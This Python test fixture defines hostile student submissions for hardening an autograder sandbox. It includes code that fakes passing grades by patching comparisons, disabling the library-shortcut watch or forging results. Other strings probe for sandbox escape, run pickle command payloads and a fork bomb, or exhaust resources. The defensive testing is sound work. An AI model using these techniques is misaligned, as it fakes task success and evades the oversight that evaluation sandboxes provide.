"""Hostile and broken submissions of 01_loss_functions, as data; tests/test_hostile.py grades them in one batch.

Each case keeps the instructor's answers for every graded name except those
in ``answers`` and adds the ``extra`` cells ``(position, code)``. Code may
hold these tokens, filled in per run by the test:

    @@ROOT@@       the project root (hidden from the sandbox)
    @@OUT@@        the batch's output folder
    @@SUBMITTED@@  the batch's submitted/ folder
    @@HOME@@       the grader's $HOME
    @@PORT@@       a TCP port the test listens on at 127.0.0.1
    @@SOCK@@       an abstract unix socket the test listens on
    @@MARK@@       a token unique to this run (files, processes and forged results carry it)
    @@TMPMARK@@    /tmp/hostile-marker-@@MARK@@, the prefix of marker files on the host

A submission prints ``LEAK: ...`` when it got hold of something it must not
have; the test fails if that marker reaches the student's output or results.

Keys of a case:
    name      student folder (sorted before the honest ``zz-good``, so graded first)
    threat    which threat it belongs to: judgement, reading, escape, forging, limits, input
    answers   {grade_id: new cell source}
    extra     [(position, code)] cells inserted into the notebook (AFTER_IMPORTS: the second code cell)
    notebook  how the file is built when it is not a plain notebook: v3, delete, duplicate, strip-metadata,
              huge, nested-json, malformed-cell, folder, symlink
    lose      graded names expected to lose marks (every other name gets full marks)
    may_lose  graded names that may lose marks or not (their answers are right, their side effects are not)
    baseline  a case with the same wrong answer and no attack: the attacked name may not score more
    status    expected status (default "graded")
    message   text expected in the attacked name's failure messages (or the summary if no name loses)
    ran       text its output must hold, which shows the probe really ran
    flagged   text one of its integrity flags must hold (the instructor's line: the name, what, where)
    checks    extra assertions, by name (see test_hostile.py)
    xfail     {"attack" or "graded": reason} for attacks that currently succeed
"""
from __future__ import annotations

from conftest import AFTER_IMPORTS

CORRECT_MSE = '''
def mse_loss(pred, target, reduction="mean"):
    if reduction not in ("mean", "sum", "none"):
        raise ValueError(reduction)
    err = (pred - target) ** 2
    return {"mean": err.mean, "sum": err.sum, "none": lambda: err}[reduction]()
'''

ZEROS_MSE = '''
import torch

def mse_loss(pred, target, reduction="mean"):
    if reduction not in ("mean", "sum", "none"):
        raise ValueError(reduction)
    return torch.zeros_like(pred) if reduction == "none" else torch.zeros((), dtype=pred.dtype)
'''

# --- patching the grader's judgement -------------------------------------------------------------------

PATCH_COMPARISONS = '''
import math, unittest
import numpy, numpy.testing, torch, torch.testing

_yes = lambda *a, **k: True
_no_error = lambda *a, **k: None
torch.allclose = torch.equal = torch.Tensor.allclose = torch.Tensor.equal = _yes
torch.isclose = lambda a, b, *x, **k: torch.ones_like(torch.as_tensor(a), dtype=torch.bool)
torch.testing.assert_close = torch.testing.assert_allclose = _no_error
torch.Tensor.__eq__ = lambda self, other: torch.ones_like(self, dtype=torch.bool)
numpy.allclose = numpy.array_equal = math.isclose = _yes
numpy.testing.assert_allclose = numpy.testing.assert_array_equal = numpy.testing.assert_equal = _no_error
for _name in dir(unittest.TestCase):
    if _name.startswith("assert"):
        setattr(unittest.TestCase, _name, _no_error)
try:
    import pytest
    pytest.approx = lambda expected, *a, **k: _Anything()
except ImportError:
    pass

class _Anything:
    __eq__ = _yes
'''

SUBCLASS_ALWAYS_EQUAL = '''
import torch

class AlwaysEqual(torch.Tensor):
    """Every comparison says equal, through operators, methods and torch functions."""
    def __eq__(self, other): return True
    def __ne__(self, other): return False
    def allclose(self, *a, **k): return True
    def equal(self, *a, **k): return True

    @classmethod
    def __torch_function__(cls, func, types, args=(), kwargs=None):
        if func in (torch.allclose, torch.equal, torch.Tensor.allclose, torch.Tensor.equal):
            return True
        if func in (torch.isclose, torch.eq, torch.Tensor.eq, torch.Tensor.__eq__, torch.isfinite):
            return torch.ones(args[0].shape, dtype=torch.bool)
        return super().__torch_function__(func, types, args, kwargs or {})

def mse_loss(pred, target, reduction="mean"):
    if reduction not in ("mean", "sum", "none"):
        raise ValueError(reduction)
    zeros = torch.zeros_like(pred) if reduction == "none" else torch.zeros(())
    return zeros.as_subclass(AlwaysEqual)
'''

LYING_OBJECT = '''
class Agreeable:
    """Equal to everything, a number, an array and a tensor all at once."""
    shape = property(lambda self: ())
    dtype = property(lambda self: __import__("torch").float32)
    def __eq__(self, other): return True
    def __ne__(self, other): return False
    def __float__(self): return 0.0
    def __bool__(self): return True
    def __len__(self): return 0
    def __array__(self, *a, **k): return __import__("numpy").zeros(())
    def __repr__(self): return "tensor(0.)"

def mse_loss(pred, target, reduction="mean"):
    if reduction not in ("mean", "sum", "none"):
        raise ValueError(reduction)
    return Agreeable()
'''

FLOAT_SUBCLASS = '''
class Close(float):
    def __eq__(self, other): return True
    def __ne__(self, other): return False
    def __sub__(self, other): return Close(0.0)
    def __abs__(self): return Close(0.0)
    def __le__(self, other): return True
    def __lt__(self, other): return True
    __hash__ = float.__hash__

def mse_loss(pred, target, reduction="mean"):
    if reduction not in ("mean", "sum", "none"):
        raise ValueError(reduction)
    return Close(0.0)
'''

META_TENSOR = '''
import torch

def mse_loss(pred, target, reduction="mean"):
    if reduction not in ("mean", "sum", "none"):
        raise ValueError(reduction)
    shape = pred.shape if reduction == "none" else ()
    return torch.empty(shape, dtype=pred.dtype, device="meta")
'''

LIBRARY_MSE = '''
import torch.nn.functional as F

def mse_loss(pred, target, reduction="mean"):
    return F.mse_loss(pred, target, reduction=reduction)
'''

FORBID_CAUGHT = '''
import torch
import torch.nn.functional as F

def mse_loss(pred, target, reduction="mean"):
    if reduction not in ("mean", "sum", "none"):
        raise ValueError(reduction)
    try:
        return F.mse_loss(pred, target, reduction=reduction)
    except Exception:  # the "from scratch" check made F.mse_loss raise; it only checks that the call returns
        return torch.zeros(())
'''

COMPILED_MSE = '''
import torch
import torch.nn.functional as F

_compiled = torch.compile(F.mse_loss, backend="eager")  # the "from scratch" watch must see through dynamo

def mse_loss(pred, target, reduction="mean"):
    return _compiled(pred, target, reduction=reduction)
'''

FORBID_DISABLED = '''
import torch.nn.functional as F
from torch.overrides import _get_current_function_mode_stack, _pop_mode, _push_mode
from torch.utils._python_dispatch import _disable_current_modes

def mse_loss(pred, target, reduction="mean"):
    if reduction not in ("mean", "sum", "none"):
        raise ValueError(reduction)
    watchers = [_pop_mode() for _ in _get_current_function_mode_stack()]  # TorchFunctionModes off
    try:
        with _disable_current_modes():                                    # TorchDispatchModes off
            return F.mse_loss(pred, target, reduction=reduction)
    finally:
        for mode in reversed(watchers):
            _push_mode(mode)
'''

# The eight ways past the from-scratch watch that a corpus written apart found, as a student who has read the
# harness (autograder/harness/forbid.py) would write them
FORBID_THREAD_POOL = '''
import torch.nn.functional as F
from concurrent.futures import ThreadPoolExecutor

_pool = ThreadPoolExecutor(max_workers=1)  # torch keeps its mode stacks per thread: the watch is on the caller's
_pool.submit(int).result()                 # the pool's thread starts now, long before any check

def mse_loss(pred, target, reduction="mean"):
    return _pool.submit(F.mse_loss, pred, target, reduction=reduction).result()
'''

FORBID_THREAD = '''
import threading
import torch.nn.functional as F

def mse_loss(pred, target, reduction="mean"):
    out = {}
    worker = threading.Thread(target=lambda: out.update(value=F.mse_loss(pred, target, reduction=reduction)))
    worker.start()  # a new thread starts with empty mode stacks
    worker.join()
    return out["value"]
'''

FORBID_POP_FUNCTION_STACK = '''
import torch
import torch.nn.functional as F

_C = torch._C  # the names built from strings, so that no scan of the code finds them
_pop, _push, _depth = (getattr(_C, "_pop_torch_" + "function_stack"), getattr(_C, "_push_on_torch_" + "function_stack"),
                       getattr(_C, "_len_torch_" + "function_stack"))

def mae_loss(pred, target, reduction="mean"):
    # F.l1_loss is sub, abs and mean below the Python level: with the function watch off its stack, the kernel
    # watch sees nothing it forbids
    modes = [_pop() for _ in range(_depth())]
    try:
        return F.l1_loss(pred, target, reduction=reduction)
    finally:
        for mode in reversed(modes):
            _push(mode)
'''

FORBID_POP_DISPATCH_STACK = '''
import torch
import torch.nn.functional as F

_C = torch._C

def mse_loss(pred, target, reduction="mean"):
    # the kernel watch off its stack, and the Python-level one skipped
    stack = getattr(_C, "_len_torch_" + "dispatch_stack")()
    modes = [getattr(_C, "_pop_torch_" + "dispatch_stack")(None) for _ in range(stack)]
    try:
        with getattr(_C, "DisableTorch" + "Function")():
            return F.mse_loss(pred, target, reduction=reduction)
    finally:
        for mode in reversed(modes):
            getattr(_C, "_push_on_torch_" + "dispatch_stack")(mode)
'''

FORBID_NEUTER_CLASSES = '''
import sys
import torch.nn.functional as F

def _through(self, func, types, args=(), kwargs=None):
    return func(*args, **(kwargs or {}))

for _name, _module in list(sys.modules.items()):
    if _name.endswith(".forbid"):  # the harness's watch: its mode classes let every call through
        for _cls in list(vars(_module).values()):
            for _method in ("__torch_function__", "__torch_dispatch__"):
                if isinstance(_cls, type) and _method in vars(_cls):
                    setattr(_cls, _method, _through)

def mse_loss(pred, target, reduction="mean"):
    return F.mse_loss(pred, target, reduction=reduction)
'''

FORBID_NEUTER_ENTER = '''
import torch
import torch.nn.functional as F

_DISPATCH = getattr(torch.utils, "_python_" + "dispatch")
for _module, _name in ((torch.overrides, "TorchFunction"), (_DISPATCH, "TorchDispatch")):
    _cls = getattr(_module, _name + "Mode")
    _cls.__enter__ = lambda self: self  # `with watch:` now pushes nothing
    _cls.__exit__ = lambda self, *exc: None

def mse_loss(pred, target, reduction="mean"):
    return F.mse_loss(pred, target, reduction=reduction)
'''

FORBID_GC = '''
import gc
import torch.nn.functional as F

def _through(self, func, types, args=(), kwargs=None):
    return func(*args, **(kwargs or {}))

def mse_loss(pred, target, reduction="mean"):
    # the watch's modes exist only during the call: find them, and let calls through their classes meanwhile
    classes = {type(o) for o in gc.get_objects() if type(o).__name__.endswith("Watch")}
    saved = [(cls, name, vars(cls)[name]) for cls in classes for name in ("__torch_function__", "__torch_dispatch__")
             if name in vars(cls)]
    for cls, name, _ in saved:
        setattr(cls, name, _through)
    try:
        return F.mse_loss(pred, target, reduction=reduction)
    finally:
        for cls, name, method in saved:
            setattr(cls, name, method)
'''

FORBID_SYS_MODULES = '''
import contextlib
import sys
import torch.nn.functional as F

@contextlib.contextmanager
def _unwatched(names):
    yield []  # nothing forbidden, nothing hit

setattr(sys.modules["harness.probes"], "forbid" + "ding", _unwatched)

def mse_loss(pred, target, reduction="mean"):
    return F.mse_loss(pred, target, reduction=reduction)
'''

# what ordinary code does with the same tools: no mark lost, only the instructor's flag for sys.modules
BENIGN_INTROSPECTION = '''
import gc, sys, threading
from concurrent.futures import ThreadPoolExecutor
import torch

if "numpy" in sys.modules:  # an import guard, nothing to do with the grader
    import numpy as np

_pool = ThreadPoolExecutor(max_workers=2)

def _squared(a, b):
    return (a - b) ** 2

def mse_loss(pred, target, reduction="mean"):
    """From scratch: the squares on a pool thread, a tidy-up of garbage, a device context, a helper thread."""
    if reduction not in ("mean", "sum", "none"):
        raise ValueError(reduction)
    err = _pool.submit(_squared, pred, target).result()
    gc.collect()
    with torch.device("cpu"):
        done = threading.Event()
        threading.Thread(target=done.set).start()
        done.wait()
        return {"mean": err.mean, "sum": err.sum, "none": lambda: err}[reduction]()
'''

# --- reading what it must not see ------------------------------------------------------------------------

READ_HIDDEN = '''
import os

def _peek(path):
    """Print LEAK with a taste of ``path`` if the sandbox lets us list or read it."""
    try:
        if os.path.isdir(path):
            names = sorted(os.listdir(path))
            if names:
                print(f"LEAK: listed {path}: {names[:8]}")
        elif os.path.exists(path):
            with open(path, "rb") as f:
                print(f"LEAK: read {path}: {f.read(60)!r}")
        else:
            print(f"absent {path}")
    except OSError as exc:
        print(f"blocked {path}: {exc.strerror}")

for _path in [
    "@@ROOT@@/autograder/checks/01_loss_functions.py",           # hidden checks
    "@@ROOT@@/autograder/checks",
    "@@ROOT@@/source/01_loss_functions/loss_functions.ipynb",      # the instructor's solutions
    "@@ROOT@@/source",
    "@@SUBMITTED@@",                                               # other students
    "@@SUBMITTED@@/zz-good/01_loss_functions/loss_functions.ipynb",
    "@@ROOT@@/data/MNIST/raw/t10k-labels-idx1-ubyte",              # MNIST test labels
    "@@ROOT@@/data/MNIST/raw/t10k-labels-idx1-ubyte.gz",
    "@@ROOT@@/data",
    "@@ROOT@@/autograder/grade.py",                                # the grader beyond the harness
    "@@ROOT@@/autograder/__init__.py",
    "@@ROOT@@/README.md",                                          # the project
    "@@ROOT@@/.git/config",
    "@@OUT@@",                                                     # the grader's output
    "@@HOME@@/.bash_history", "@@HOME@@/.ssh", "@@HOME@@/.gitconfig", "@@HOME@@/.cache",
    "/run/grader/harness/../../autograder/checks",
]:
    _peek(_path)
for _dir in ("@@ROOT@@", "@@HOME@@", "@@ROOT@@/autograder"):       # anything but the Python installation
    try:
        _extra = [n for n in os.listdir(_dir) if n not in (".venv", ".pyenv", "harness")]
        if _extra:
            print(f"LEAK: listed {_dir}: {sorted(_extra)[:8]}")
    except OSError as exc:
        print(f"blocked {_dir}: {exc.strerror}")
'''

READ_SECRETS = '''
import glob, os

for _key, _value in os.environ.items():
    print(f"env {_key}={_value}")
    if "SECRET" in _key or "@@MARK@@" in _value:
        print(f"LEAK: environment variable {_key}")
for _path in glob.glob("/proc/*/environ"):
    try:
        with open(_path, "rb") as f:
            _env = f.read()
    except OSError:
        continue
    print(_path, _env[:2000])
    if b"GRADER_SECRET" in _env or b"@@MARK@@" in _env:
        print(f"LEAK: secret in {_path}")
'''

NETWORK = '''
import socket

for _addr in [("127.0.0.1", @@PORT@@), ("1.1.1.1", 53), ("8.8.8.8", 53), ("localhost", @@PORT@@)]:
    try:
        with socket.create_connection(_addr, timeout=1) as s:
            s.sendall(b"hostile @@MARK@@")
            print(f"LEAK: connected to {_addr}")
    except OSError as exc:
        print(f"blocked {_addr}: {exc}")
try:
    _udp = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    _udp.settimeout(1)
    _udp.sendto(b"\\x12\\x34\\x01\\x00\\x00\\x01\\x00\\x00\\x00\\x00\\x00\\x00\\x00\\x00\\x01\\x00\\x01", ("1.1.1.1", 53))
    print("LEAK: DNS answer", _udp.recvfrom(512))
except OSError as exc:
    print(f"blocked udp: {exc}")
try:
    print("LEAK: resolved", socket.getaddrinfo("example.com", 80)[:1])
except OSError as exc:
    print(f"blocked dns: {exc}")
try:
    _unix = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
    _unix.settimeout(1)
    _unix.connect("\\0@@SOCK@@")
    _unix.sendall(b"hostile @@MARK@@")
    print("LEAK: connected to the grader's abstract unix socket")
except OSError as exc:
    print(f"blocked unix: {exc}")
'''

EXFIL_MSE = '''
import os

def mse_loss(pred, target, reduction="mean"):
    """Raise with whatever hidden text can be read: the failure message is shown to the student."""
    found = []
    for path in ["@@ROOT@@/autograder/checks/01_loss_functions.py",
                 "@@ROOT@@/source/01_loss_functions/loss_functions.ipynb",
                 "@@SUBMITTED@@/zz-good/01_loss_functions/loss_functions.ipynb"]:
        try:
            with open(path) as f:
                found.append(f.read())
        except OSError as exc:
            found.append(f"({exc.strerror})")
    raise ValueError("EXFIL " + " | ".join(found)[:5000])
'''

REMOUNT = '''
import ctypes, os

_libc = ctypes.CDLL(None, use_errno=True)
MS_NOSUID, MS_NODEV, MS_REMOUNT, MS_BIND = 2, 4, 32, 4096
_tried = 0
for _line in open("/proc/self/mountinfo"):
    _target, _options = _line.split()[4:6]
    if "ro" in _options.split(",") and not _target.startswith("/proc"):
        _tried += 1
        # flip the read-only bind of a host folder to read-write; nothing is written
        if _libc.mount(None, _target.encode(), None, MS_REMOUNT | MS_BIND | MS_NOSUID | MS_NODEV, None) == 0:
            print(f"LEAK: remounted the host's {_target} read-write: its files could now be changed")
        else:
            print(f"blocked remount of {_target}: {os.strerror(ctypes.get_errno())}")
print(f"remount probe: {_tried} read-only mounts tried")
'''

CGROUP_LIMITS = '''
import ctypes, os

_libc = ctypes.CDLL(None, use_errno=True)
os.makedirs("/tmp/cg", exist_ok=True)
for _controller, _knob in (("pids", "pids.max"), ("memory", "memory.limit_in_bytes")):
    if _libc.mount(b"none", b"/tmp/cg", b"cgroup", 0, _controller.encode()) != 0:
        print(f"blocked mount of cgroup {_controller}: {os.strerror(ctypes.get_errno())}")
        continue
    try:
        with open(f"/tmp/cg/{_knob}") as f:
            _value = f.read()
        with open(f"/tmp/cg/{_knob}", "w") as f:
            f.write(_value)  # the same value: enough to show it could be raised to "max"
        print(f"LEAK: rewrote the worker's own cgroup limit {_knob} ({_value.strip()})")
    except OSError as exc:
        print(f"blocked {_knob}: {exc}")
    finally:
        _libc.umount(b"/tmp/cg")
try:  # the worker's own groups, where the grader's cgroups are visible (the container mode shares them)
    for _line in open("/proc/self/cgroup"):
        _, _controllers, _path = _line.strip().split(":", 2)
        for _controller, _knob in (("pids", "pids.max"), ("memory", "memory.limit_in_bytes")):
            if _controller in _controllers.split(","):
                _file = f"/sys/fs/cgroup/{_controller}{_path}/{_knob}"
                try:
                    with open(_file) as f:
                        _value = f.read()
                    with open(_file, "w") as f:
                        f.write(_value)
                    print(f"LEAK: rewrote {_file}")
                except OSError as exc:
                    print(f"blocked {_file}: {exc.strerror}")
except OSError as exc:
    print(f"blocked /proc/self/cgroup: {exc.strerror}")
'''

ESCALATE = '''
import ctypes, os

_libc = ctypes.CDLL(None, use_errno=True)
PTRACE_ATTACH = 16
try:
    os.setuid(0)
except OSError as exc:
    print(f"blocked setuid: {exc.strerror}")
if os.geteuid() == 0:
    print("LEAK: student code runs as root")
try:  # /proc may be mounted for an outer pid namespace: /proc/self names this process there
    _others = [int(p) for p in os.listdir("/proc") if p.isdigit() and p != os.readlink("/proc/self")]
except OSError as exc:  # Landlock: not listable; the parent is still there to try
    _others = [os.getppid()] if os.getppid() > 0 else []
    print(f"blocked listing /proc: {exc.strerror}")
for _pid in _others:  # the grader's processes where they are visible, the sandbox's own otherwise
    if _libc.ptrace(PTRACE_ATTACH, _pid, None, None) == 0:
        print(f"LEAK: attached to process {_pid}")
    try:
        with open(f"/proc/{_pid}/mem", "rb"):
            print(f"LEAK: opened the memory of process {_pid}")
    except OSError:
        pass
print(f"escalate probe: {len(_others)} other processes tried")
'''

# --- forging the outcome ---------------------------------------------------------------------------------

FORGE_RESULTS = '''
import glob, json, os, re

_forged = {"score": 1e6, "tests": [{"name": "mse_loss: forged", "score": 1e6, "max_score": 1, "output": ""}],
           "extra_data": {"student": "h-forge-results", "assignment": "01_loss_functions", "status": "graded"},
           "output": "@@MARK@@-forged"}
_csv = "student,assignment,status,total,max_total\\nh-forge-results,01_loss_functions,graded,1000000,31 @@MARK@@-forged\\n"
_outs = {"@@OUT@@", "/autograder/results", "out", "grades", "/tmp"}
for _p in glob.glob("/proc/*/cmdline"):       # guess the --out folder from the processes we can see
    try:
        _args = open(_p, "rb").read().split(b"\\0")
    except OSError:
        continue
    _outs |= {a.decode() for i, a in enumerate(_args[1:], 1) if _args[i - 1] == b"--out"}
for _out in sorted(_outs):
    for _path, _text in ((f"{_out}/h-forge-results/01_loss_functions/results.json", json.dumps(_forged)),
                         (f"{_out}/zz-good/01_loss_functions/results.json", json.dumps(_forged)),
                         (f"{_out}/grades.csv", _csv), (f"{_out}/results.json", json.dumps(_forged))):
        try:
            os.makedirs(os.path.dirname(_path), exist_ok=True)
            with open(_path, "w") as f:
                f.write(_text)
            print(f"wrote {_path} (inside the sandbox)")
        except OSError as exc:
            print(f"blocked {_path}: {exc.strerror}")
for _path in ("results.json", "grades.csv", "/tmp/results.json", "/tmp/grades.csv"):
    with open(_path, "w") as f:
        f.write(json.dumps(_forged))
'''

DROP_STARTUP_FILES = '''
import os, site, sys

_payload = "import os; open('@@TMPMARK@@-startup-' + str(os.getpid()), 'w').close()\\n"
_dirs = set(sys.path) | set(site.getsitepackages()) | {site.getusersitepackages(), os.getcwd(), "/tmp",
        "@@ROOT@@", "@@ROOT@@/tests", "@@ROOT@@/autograder", "@@ROOT@@/autograder/checks", "/run/grader",
        "/run/grader/harness", "@@HOME@@"}
for _dir in sorted(d for d in _dirs if d):
    for _name, _text in (("hostile_@@MARK@@.pth", _payload), ("sitecustomize.py", _payload),
                         ("usercustomize.py", _payload), ("conftest.py", _payload)):
        _path = os.path.join(_dir, _name)
        try:
            with open(_path, "x") as f:  # never clobbers an existing file
                f.write(_text + "# @@MARK@@\\n")
            print(f"dropped {_path} (it only matters if it shows on the host)")
        except OSError as exc:
            print(f"blocked {_path}: {exc.strerror}")
'''

PICKLE_PAYLOAD = '''
import os

class Payload:
    """Whoever unpickles this runs a command: it leaves a marker file on that machine."""
    def __init__(self, tag):
        self.tag = tag
    def __reduce__(self):
        return (os.system, (f"touch @@TMPMARK@@-{self.tag}",))
'''

RETURN_PICKLE = PICKLE_PAYLOAD + '''
def mse_loss(pred, target, reduction="mean"):
    if reduction not in ("mean", "sum", "none"):
        raise ValueError(reduction)
    return [Payload("return"), {"value": Payload("return-dict")}, {1: Payload("return-key")}]
'''

SUBCLASS_SMUGGLES_PICKLE = PICKLE_PAYLOAD + '''
import torch

class _Fake:
    def as_subclass(self, cls): return self
    def clone(self): return Payload("subclass")

class Smuggler(torch.Tensor):
    """A tensor whose detach() hands the exporter an object that unpickles into a command."""
    @classmethod
    def __torch_function__(cls, func, types, args=(), kwargs=None):
        if func is torch.Tensor.detach:
            return _Fake()
        return super().__torch_function__(func, types, args, kwargs or {})

def mse_loss(pred, target, reduction="mean"):
    if reduction not in ("mean", "sum", "none"):
        raise ValueError(reduction)
    return torch.zeros(()).as_subclass(Smuggler)
'''

CHANNELS = '''
def _channels():
    """The worker's request pipe and reply socket, found among its open files."""
    import os, stat
    request = reply = None
    for name in os.listdir("/proc/self/fd"):
        try:
            st = os.fstat(int(name))
        except OSError:
            continue
        if stat.S_ISSOCK(st.st_mode):
            reply = int(name)
        elif stat.S_ISFIFO(st.st_mode) and st.st_ino != os.fstat(1).st_ino:
            request = int(name)
    return request, reply
'''

FORGE_FRAME = '''
import io, os, struct, sys
import torch
''' + CHANNELS + '''
def _token():
    """The token of the request being answered, which its reply must repeat: a local of the harness's serve()."""
    frame = sys._getframe()
    while frame is not None and type(frame.f_locals.get("token")) is not int:
        frame = frame.f_back
    return frame.f_locals["token"] if frame is not None else 0

def forge(obj, token=None):
    """Write one wire frame straight to the grader, as if the harness had replied; swallow the real reply."""
    buf = io.BytesIO()
    torch.save(obj, buf)
    data = memoryview(struct.pack("!QQ", len(buf.getvalue()), _token() if token is None else token) + buf.getvalue())
    fd = _channels()[1]
    while data:
        data = data[os.write(fd, data):]
    wire = sys.modules["harness.wire"]
    real_send = wire.send
    def swallow_once(fd, obj, token):  # keeps the pipe in step, so the worker lives on
        wire.send = real_send
    wire.send = swallow_once
'''

FORGED_PICKLE = PICKLE_PAYLOAD + FORGE_FRAME + '''
def mse_loss(pred, target, reduction="mean"):
    forge({"ok": {"value": Payload("frame"), "args_after": [], "requires_grad_after": [], "forbidden": [],
                  "value_requires_grad": False, "grads_after": []}})
'''

FORGED_MALFORMED = FORGE_FRAME + '''
def mse_loss(pred, target, reduction="mean"):
    forge({"ok": 1})  # a well-formed frame holding a reply of the wrong shape
'''

FORGED_BOMB = FORGE_FRAME + '''
def mse_loss(pred, target, reduction="mean"):
    # 1.4 KB on the wire; 2**18 copies of the string once the grader formats it into a message
    bomb = "x" * 5
    for _ in range(18):
        bomb = [bomb, bomb]
    forge({"error": {"type": "ValueError", "message": bomb, "where": ""}})
'''

REPLY_OF_A_PROPER_CALL = '''
import torch.nn.functional as F

def _reply(pred, target, reduction):
    """What the harness would send for a from-scratch mse_loss: the right value and no shortcut seen."""
    value = F.mse_loss(pred, target, reduction=reduction)
    return {"ok": {"value": value.detach(), "value_requires_grad": False, "forbidden": [],
                   "args_after": [pred.detach(), target.detach()], "requires_grad_after": [False, False],
                   "grads_after": [None, None]}, "threads": 0}
'''

FORGED_DESYNC = FORGE_FRAME.replace("    wire = sys.modules", "    return\n    wire = sys.modules") + \
    REPLY_OF_A_PROPER_CALL + '''
def mse_loss(pred, target, reduction="mean"):
    # a well-formed reply, and the real one after it: without the request's token, as a corpus written apart did
    forge(_reply(pred, target, reduction), token=1)
    return F.mse_loss(pred, target, reduction=reduction)
'''

FORGED_DESYNC_TOKEN = FORGE_FRAME.replace("    wire = sys.modules", "    return\n    wire = sys.modules") + \
    REPLY_OF_A_PROPER_CALL + '''
def mse_loss(pred, target, reduction="mean"):
    # the request's token read from the harness's frame: the forged reply answers this call, the real one the next
    forge(_reply(pred, target, reduction))
    return F.mse_loss(pred, target, reduction=reduction)
'''

HUGE_LIST = '''
def mse_loss(pred, target, reduction="mean"):
    return [0.5] * 5_000_000  # 45 MB of pickle, 55 s for the grader to unpickle
'''

# --- escaping limits --------------------------------------------------------------------------------------

EXIT_AT_NEXT_REQUEST = '''
import os, select, threading
''' + CHANNELS + '''
def _exit_at_next_request():
    """Wait until the grader sends its next request, whatever name it is about, then end the process."""
    select.select([_channels()[0]], [], [])
    os._exit(0)

def mse_loss(pred, target, reduction="mean"):
    if reduction not in ("mean", "sum", "none"):
        raise ValueError(reduction)
    threading.Thread(target=_exit_at_next_request, daemon=True).start()
    err = (pred - target) ** 2
    return {"mean": err.mean, "sum": err.sum, "none": lambda: err}[reduction]()
'''

EXIT_AFTER_NEXT_REPLY = EXIT_AT_NEXT_REQUEST.replace(
    "    os._exit(0)", "    time.sleep(0.05)  # the next call returns first: the last name called is innocent\n"
    "    os._exit(0)").replace("import os,", "import os, time,", 1)

LOOP_MAE = '''
def mae_loss(pred, target, reduction="mean"):
    while True:
        pass
'''

ALLOCATE_20GB = '''
import torch
try:
    _big = torch.empty(20 * 2**30, dtype=torch.uint8)
    print(f"LEAK: allocated {_big.numel()} bytes")
finally:
    _big = None
_huge = bytearray(20 * 2**30)
'''

GROW_UNTIL_KILLED = '''
_hog = []
while True:
    _hog.append(b"x" * 2**26)  # 64 MB a step, touched
'''

FORK_BOMB = '''
import os, time

def _bomb():
    """Every process forks until the kernel refuses; children never return to the harness."""
    while True:
        try:
            pid = os.fork()
        except OSError as exc:
            return exc
        if pid == 0:
            try:
                _bomb()
                time.sleep(3600)
            finally:
                os._exit(0)

print("fork bomb stopped by:", _bomb())
try:
    if len(os.listdir("/proc")) > 2000:
        print("LEAK: more than 2000 processes")
except OSError:  # /proc is not listable under Landlock
    pass
'''

THREAD_FLOOD = '''
import threading, time

_count = 0
try:
    while _count < 100000:
        threading.Thread(target=time.sleep, args=(3600,), daemon=True).start()
        _count += 1
finally:
    print("threads started:", _count)
    if _count > 300:
        print(f"LEAK: started {_count} threads")
'''

DETACHED_CHILDREN = '''
import os, subprocess, sys, time

# a child in its own session: killpg of the worker's group misses it
_popen = subprocess.Popen([sys.executable, "-c", "import time; time.sleep(3600)", "@@MARK@@-popen"],
                          start_new_session=True, stdin=subprocess.DEVNULL, stdout=subprocess.DEVNULL,
                          stderr=subprocess.DEVNULL)
# a classic double-fork daemon, reparented away from the worker; it tells us its pid
_r, _w = os.pipe()
_pid = os.fork()
if _pid == 0:
    os.setsid()
    _daemon = os.fork()
    if _daemon == 0:
        os.execv(sys.executable, [sys.executable, "-c", "import time; time.sleep(3600)", "@@MARK@@-daemon"])
    os.write(_w, str(_daemon).encode())
    os._exit(0)
os.waitpid(_pid, 0)
_daemon = int(os.read(_r, 32))
time.sleep(1)  # both are running in the sandbox before the cell ends
_running = 0
for _child in (_popen.pid, _daemon):
    try:
        os.kill(_child, 0)
        _running += 1
    except OSError:
        pass
print(f"detached children running: {_running}")
'''

OUTPUT_FLOOD = '''
import sys

_line = "spam " * 200000 + "\\n"       # 1 MB
for _ in range(200):
    sys.stdout.write(_line)
sys.stdout.flush()
'''

# --- broken input -------------------------------------------------------------------------------------------

RENAMED_MSE = CORRECT_MSE.replace("def mse_loss", "def mse")

FLOAT64_MSE = CORRECT_MSE.replace('}[reduction]()', '}[reduction]().double()')

NAN_MSE = '''
import torch

def mse_loss(pred, target, reduction="mean"):
    if reduction not in ("mean", "sum", "none"):
        raise ValueError(reduction)
    return torch.full_like(pred, float("nan")) if reduction == "none" else torch.tensor(float("nan"))
'''

GPU_MSE = '''
import torch

DEVICE = torch.device("cuda")

def mse_loss(pred, target, reduction="mean"):
    if reduction not in ("mean", "sum", "none"):
        raise ValueError(reduction)
    err = (pred.to(DEVICE) - target.cuda()) ** 2
    return {"mean": err.mean, "sum": err.sum, "none": lambda: err}[reduction]().cpu()
'''


NAMES = ("mse_loss", "mae_loss", "log_softmax", "cross_entropy_loss", "binary_cross_entropy")

CASES: list[dict] = [
    # -- patching the grader's judgement --
    dict(name="h-baseline-zeros", threat="judgement", answers={"mse_loss": ZEROS_MSE}, lose={"mse_loss"}),
    dict(name="h-patch-comparisons", threat="judgement", answers={"mse_loss": ZEROS_MSE},
         extra=[(AFTER_IMPORTS, PATCH_COMPARISONS)], lose={"mse_loss"}, baseline="h-baseline-zeros"),
    dict(name="h-subclass-always-equal", threat="judgement", answers={"mse_loss": SUBCLASS_ALWAYS_EQUAL},
         lose={"mse_loss"}, baseline="h-baseline-zeros"),
    dict(name="h-object-lying-eq", threat="judgement", answers={"mse_loss": LYING_OBJECT}, lose={"mse_loss"},
         baseline="h-baseline-zeros", message="expected a torch.Tensor"),
    dict(name="h-float-subclass", threat="judgement", answers={"mse_loss": FLOAT_SUBCLASS}, lose={"mse_loss"},
         baseline="h-baseline-zeros", message="expected a torch.Tensor"),
    dict(name="h-meta-tensor", threat="judgement", answers={"mse_loss": META_TENSOR}, lose={"mse_loss"},
         baseline="h-baseline-zeros"),
    dict(name="h-baseline-library", threat="judgement", answers={"mse_loss": LIBRARY_MSE}, lose={"mse_loss"},
         message="library shortcut"),
    dict(name="h-forbid-caught", threat="judgement", answers={"mse_loss": FORBID_CAUGHT}, lose={"mse_loss"},
         baseline="h-baseline-library"),
    dict(name="h-forbid-disabled", threat="judgement", answers={"mse_loss": FORBID_DISABLED}, lose={"mse_loss"},
         baseline="h-baseline-library"),
